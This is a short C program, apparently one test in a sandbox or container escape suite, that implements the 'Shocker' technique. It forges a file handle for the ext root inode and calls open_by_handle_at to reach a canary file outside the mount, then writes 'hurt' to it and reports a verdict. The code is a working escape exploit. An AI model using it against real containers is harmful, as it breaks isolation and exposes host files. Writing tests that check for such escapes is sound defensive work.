// "Shocker": files by their number on the disk instead of by their name. The root directory of an ext file system has
// number 2; the canary's own handle is tried first.
#include "attack.h"

static int through(int mount, struct file_handle *handle, const char *below) {
    int dir = open_by_handle_at(mount, handle, O_RDONLY);
    if (dir < 0) return -1;
    if (!below) return dprintf(dir, "hurt\n");
    int file = openat(dir, below, O_WRONLY | O_APPEND);
    return file < 0 ? -1 : dprintf(file, "hurt\n");
}

int main(void) {
    const char *canary = need("CANARY");
    struct { struct file_handle head; char room[MAX_HANDLE_SZ]; } handle = { .head.handle_bytes = MAX_HANDLE_SZ };
    int mount_id, mount = open("/", O_RDONLY | O_DIRECTORY);
    if (name_to_handle_at(AT_FDCWD, canary, &handle.head, &mount_id, 0) == 0) {
        int file = open_by_handle_at(open(canary, O_RDONLY), &handle.head, O_WRONLY | O_APPEND);
        if (file >= 0) return verdict(dprintf(file, "hurt\n"));
    }
    unsigned root[2] = { 2, 0 };
    handle.head.handle_bytes = sizeof root;
    handle.head.handle_type = 1;
    memcpy(handle.head.f_handle, root, sizeof root);
    return verdict(through(mount, &handle.head, canary + 1));
}
